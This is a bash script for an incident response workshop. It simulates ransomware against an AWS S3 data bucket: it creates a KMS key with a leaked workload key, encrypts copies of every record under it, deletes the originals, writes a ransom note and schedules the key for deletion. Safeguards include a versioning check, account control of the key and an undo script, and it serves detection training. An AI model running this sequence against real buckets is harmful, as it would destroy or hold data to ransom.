#!/usr/bin/env bash
# simulate-s3-ransomware.sh: act as an intruder who found the leaked key of a
# workload that writes a data bucket, and holds the data to ransom.
#
# What it does, with the leaked key (profile s3_ransomware: IAM user ingest
# of SimulationStack, which reads, writes and deletes the data bucket's
# records and, as a deliberate weakness, may create KMS keys):
#   1. discovery: lists the account's buckets, checks that the data bucket
#      (-b, default ir-workshop-data-ACCOUNT-REGION) is versioned, and lists
#      its records under records/ (fill them first with seed-data-bucket.sh);
#   2. creates a KMS key of its own, whose key policy lets the leaked key's
#      user encrypt with it and schedule its deletion, and keeps the
#      account's own statement (the default key policy's), so that the
#      account can still manage the key: responders can cancel its deletion.
#      A real intruder may leave the account out;
#   3. copies every record, server side, to ir-ransom-RUN_ID/records/ in the
#      same bucket, encrypted under that key (SSE-KMS);
#   4. deletes every record (DeleteObjects): the bucket is versioned, so each
#      record gets a delete marker and keeps its versions, which are what
#      recovery restores;
#   5. writes the ransom note RESTORE-YOUR-FILES-RUN_ID.txt at the top of the
#      bucket;
#   6. schedules its key for deletion after the shortest waiting period, 7
#      days: the clock of the incident, since once the key is gone, so is
#      every copy encrypted under it.
# Nothing leaves the account and nothing becomes public; no record version is
# deleted.
#
# What it creates or changes: the KMS key (tagged
# ir-workshop:simulation-run=RUN_ID, ir-workshop:simulation=s3-ransomware),
# the encrypted copies and the note (named after the run ID), a delete marker
# on each record. The state file (-s, default ./s3-ransomware-RUN_ID.json)
# is created before the first change, exclusively (a second run on the same
# file stops there, having changed nothing), and names each change before
# the call that makes it, or, for the key and the delete markers, whose IDs
# AWS gives, as soon as the call returns; undo also finds the key by its tag
# and the copies and note by their names, and tells the run's delete markers
# by their time, so that it works after a crash or Ctrl-C. Every AWS CLI
# call sends "app/ir-workshop-RUN_ID" in its User-Agent.
#
# What GuardDuty and CloudTrail should show: by IAM user ingest, from an
# address it never used, with userAgent containing app/ir-workshop-RUN_ID:
# ListBuckets, GetBucketVersioning, CreateKey and ScheduleKeyDeletion
# (management events), ListObjects, one CopyObject per record with
# x-amz-server-side-encryption-aws-kms-key-id the new key, DeleteObjects
# and PutObject (data events); KMS GenerateDataKey calls made by S3 on the
# user's behalf. GuardDuty may report Impact:S3/AnomalousBehavior.Write and
# Impact:S3/AnomalousBehavior.Delete; its anomaly detection needs a baseline
# of the user's usual S3 activity, so in a fresh account the findings can
# take a while or not appear.
#
# Undo: scripts/undo-s3-ransomware.sh -s STATE_FILE [-p PROFILE], with a
# profile allowed to cancel the key's deletion and delete object versions
# (break glass); it cancels the key's deletion first and schedules it again
# last, once every record is back. The command is printed, quoted for
# pasting, at the end of the run, or when it stops early.
#
# Test hooks: IR_WORKSHOP_TEST_CRASH_AFTER=STEP makes the script kill itself
# with SIGKILL after STEP (key, copies, delete, note, schedule) was recorded;
# IR_WORKSHOP_RETRY_DELAY=SECONDS sets the first retry delay.
#
# Exit status: 0 done, 1 a step failed (the state file names what exists;
# undo it), 2 bad usage.
set -euo pipefail

script_dir="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
# shellcheck source=lib/common.sh
source "$script_dir/lib/common.sh"

readonly simulation=s3-ransomware
readonly records_prefix=records/
# The shortest waiting period KMS allows before it deletes a key.
readonly pending_days=7

usage() {
  cat <<EOF
Usage: $IR_PROG [-p PROFILE] [-r REGION] [-s STATE_FILE] [-b BUCKET]

Simulate ransomware on S3 with a workload's leaked key: a KMS key of the
intruder's, every record copied encrypted under it, the records deleted
(their versions remain), a ransom note, and the key scheduled for deletion
in 7 days. Undo with undo-s3-ransomware.sh.

  -p PROFILE     AWS CLI profile with the leaked key
                 (default: s3_ransomware; see
                 configure-simulation-profiles.sh)
  -r REGION      region of the data bucket
                 (default: \$AWS_REGION, \$AWS_DEFAULT_REGION, then the
                 profile's region)
  -s STATE_FILE  where to record what the run creates and changes; must not
                 exist (default: ./s3-ransomware-RUN_ID.json)
  -b BUCKET      the data bucket (default: ir-workshop-data-ACCOUNT-REGION,
                 SimulationStack's output DataBucketName)
  -h             show this help
EOF
}

aws_profile=s3_ransomware
state_file=""
bucket=""
while getopts ':p:r:s:b:h' opt; do
  case "$opt" in
    s) check_value s "$OPTARG"; state_file="$OPTARG" ;;
    b) check_value b "$OPTARG"; bucket="$OPTARG" ;;
    *) common_option "$opt" "${OPTARG:-}" ;;
  esac
done
shift $((OPTIND - 1))
no_operands "$@"
if [[ -n "$bucket" ]]; then
  require_pattern b "$bucket" '^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$' "an S3 bucket name"
fi
resolve_region
if [[ -n "$state_file" ]]; then
  require_new_state_file "$state_file"
fi
ir_init

# at_exit STATUS: a run that stops early is marked failed, with how to undo.
at_exit() {
  simulation_at_exit "$1" "$script_dir/undo-s3-ransomware.sh"
}
simulation_begin "$simulation"
bucket="${bucket:-$(data_bucket_name)}"
encrypted="ir-ransom-$run_id/"
note="RESTORE-YOUR-FILES-$run_id.txt"

# Step 1: discovery. Nothing changes yet.
if ! listed="$(awsx s3api list-buckets --query 'Buckets[].Name')"; then
  aws_die "step 1: cannot list the account's buckets" s3:ListAllMyBuckets
fi
if [[ "$(jq --arg b "$bucket" 'index($b) != null' <<<"$listed")" != true ]]; then
  die "step 1: the account has no bucket $bucket: deploy SimulationStack in this account, or pass -b BUCKET; nothing was changed"
fi
if ! versioning="$(awsx s3api get-bucket-versioning --bucket "$bucket" --expected-bucket-owner "$caller_account" \
  --query Status --output text)"; then
  aws_die "step 1: cannot read the versioning of $bucket; nothing was changed" s3:GetBucketVersioning
fi
if [[ "$versioning" != Enabled ]]; then
  # Without versions, deleting the records would lose them: the simulation
  # never does that.
  die "step 1: $bucket is not versioned (versioning: $versioning), so its records could not be restored: not attacking it; nothing was changed"
fi
# The whole bucket is listed and the records picked by the query, here and
# in the copies below (see list_all_versions in lib/common.sh).
if ! records_json="$(awsx s3api list-objects-v2 --bucket "$bucket" --expected-bucket-owner "$caller_account" \
  --query "Contents[?starts_with(Key, '$records_prefix')].Key")"; then
  aws_die "step 1: cannot list the records of $bucket; nothing was changed" s3:ListBucket
fi
mapfile -t records < <(jq -r '.[]? // empty' <<<"${records_json:-null}")
if ((${#records[@]} == 0)); then
  die "step 1: $bucket holds no records under $records_prefix: fill it with $script_dir/seed-data-bucket.sh (as an administrator); nothing was changed"
fi
log "step 1: $bucket is versioned and holds ${#records[@]} records"

simulation_state_create "$simulation"
state_set .resources.data_bucket "$bucket"

# Step 2: the intruder's key. Its ID is known once CreateKey returns; the
# tags it is created with let undo find it should the run stop before it
# records the ID.
policy="$(jq -cn --arg account "arn:$(partition):iam::$caller_account:root" --arg me "$caller_arn" '{
  Version: "2012-10-17",
  Statement: [
    {Sid: "AccountManagesTheKey", Effect: "Allow", Principal: {AWS: $account}, Action: "kms:*", Resource: "*"},
    {Sid: "IntruderUsesTheKey", Effect: "Allow", Principal: {AWS: $me},
     Action: ["kms:DescribeKey", "kms:GenerateDataKey", "kms:Decrypt", "kms:ScheduleKeyDeletion", "kms:PutKeyPolicy"],
     Resource: "*"}
  ]}')"
key_tags="$(simulation_tags "$simulation" "$run_id" | jq -c 'map({TagKey: .Key, TagValue: .Value})')"
if ! key_id="$(awsx kms create-key --description "ir-workshop $simulation $run_id: the intruder's key" \
  --policy "$policy" --tags "$key_tags" --query KeyMetadata.KeyId --output text)"; then
  aws_die "step 2: cannot create a KMS key" "kms:CreateKey and kms:TagResource"
fi
state_set .resources.kms_key_id "$key_id"
log "step 2: created KMS key $key_id"
checkpoint key

# Step 3: every record, copied encrypted under the key.
state_set .resources.encrypted_prefix "$encrypted"
if ! awsx s3 cp "s3://$bucket/" "s3://$bucket/$encrypted" --recursive --exclude '*' --include "$records_prefix*" \
  --sse aws:kms --sse-kms-key-id "$key_id" --only-show-errors >/dev/null; then
  aws_die "step 3: cannot copy the records of $bucket encrypted under key $key_id" \
    "s3:GetObject and s3:PutObject on $bucket, kms:GenerateDataKey on key $key_id"
fi
log "step 3: copied the ${#records[@]} records to s3://$bucket/$encrypted$records_prefix, encrypted under key $key_id"
checkpoint copies

# Step 4: the records deleted. DeleteObjects answers with the delete marker
# of each, recorded at once.
request="$IR_TMP/delete.json"
printf '%s\n' "${records[@]}" | jq -R . | jq -sc '{Objects: map({Key: .}), Quiet: false}' >"$request"
if ! deleted="$(awsx s3api delete-objects --bucket "$bucket" --expected-bucket-owner "$caller_account" \
  --delete "file://$request")"; then
  aws_die "step 4: cannot delete the records of $bucket" s3:DeleteObject
fi
# shellcheck disable=SC2016 # $markers is a jq variable
state_update '.resources.delete_markers += $markers' \
  --argjson markers "$(jq -c '[.Deleted[]? | select(.DeleteMarker) | "\(.Key)#\(.DeleteMarkerVersionId)"]' <<<"$deleted")"
failures="$(jq '.Errors // [] | length' <<<"$deleted")"
if [[ "$failures" != 0 ]]; then
  die "step 4: S3 refused to delete $failures records of $bucket" "$(jq -r '.Errors[:3][] | "\(.Key): \(.Code)"' <<<"$deleted")"
fi
log "step 4: deleted the ${#records[@]} records of $bucket (their versions remain)"
checkpoint delete

# Step 5: the note.
state_set .resources.ransom_note_key "$note"
{
  echo "YOUR FILES ARE ENCRYPTED."
  echo
  echo "Every record of this bucket was copied under $encrypted, encrypted with a"
  echo "KMS key of ours, and deleted. The key is scheduled for deletion in $pending_days days:"
  echo "after that, the copies cannot be read by anyone."
  echo
  echo "This is an incident response workshop simulation (run $run_id of"
  echo "$simulation). There is no ransom to pay. The records' earlier versions are"
  echo "still in the bucket: make them current again to recover the records, or"
  echo "undo the run with scripts/undo-s3-ransomware.sh."
} >"$IR_TMP/note.txt"
if ! awsx s3api put-object --bucket "$bucket" --key "$note" --expected-bucket-owner "$caller_account" \
  --body "$IR_TMP/note.txt" --content-type text/plain >/dev/null; then
  aws_die "step 5: cannot write the ransom note s3://$bucket/$note" s3:PutObject
fi
log "step 5: wrote the ransom note s3://$bucket/$note"
checkpoint note

# Step 6: the clock.
if ! deletion="$(awsx kms schedule-key-deletion --key-id "$key_id" --pending-window-in-days "$pending_days" \
  --query DeletionDate --output text)"; then
  aws_die "step 6: cannot schedule the deletion of key $key_id" kms:ScheduleKeyDeletion
fi
log "step 6: scheduled key $key_id for deletion on $(iso_time "$deletion")"
checkpoint schedule

state_status complete
cat <<EOF
Simulation $simulation, run $run_id: complete.
  data bucket     $bucket (${#records[@]} records deleted; their versions remain)
  encrypted       s3://$bucket/$encrypted$records_prefix, under KMS key $key_id
  ransom note     s3://$bucket/$note
  key deletion    $(iso_time "$deletion") ($pending_days days)
  state file      $state_file
Undo it with:
  $(shell_quote "$script_dir/undo-s3-ransomware.sh" -s "$state_file")
EOF
